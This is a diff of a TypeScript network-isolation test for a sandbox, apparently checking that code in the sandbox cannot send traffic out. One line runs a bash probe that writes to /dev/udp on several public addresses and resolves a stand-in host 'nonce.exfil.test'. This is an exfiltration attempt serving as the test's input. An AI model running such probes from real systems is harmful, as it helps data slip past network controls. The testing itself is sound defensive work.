@@ -61,7 +61,8 @@ describe('network', () => {
     const { port } = socket.address()
     await new Promise<void>((resolve) => {
       socket.once('message', () => resolve())
-      dgram.createSocket('udp4').send('control', port, '127.0.0.1', function (this: dgram.Socket) { this.close() })
+      const control = dgram.createSocket('udp4')
+      control.send('control', port, '127.0.0.1', () => control.close())
     })
     await inCell(world, `for a in 127.0.0.1 192.0.2.1 8.8.8.8; do for p in ${port} 53 123 443; do echo x > /dev/udp/$a/$p; done; done 2>/dev/null; getent hosts nonce.exfil.test; true`.replace(/^/, 'exec bash -c \'').replace(/$/, "'"))
     expect(datagrams).toBe(1)
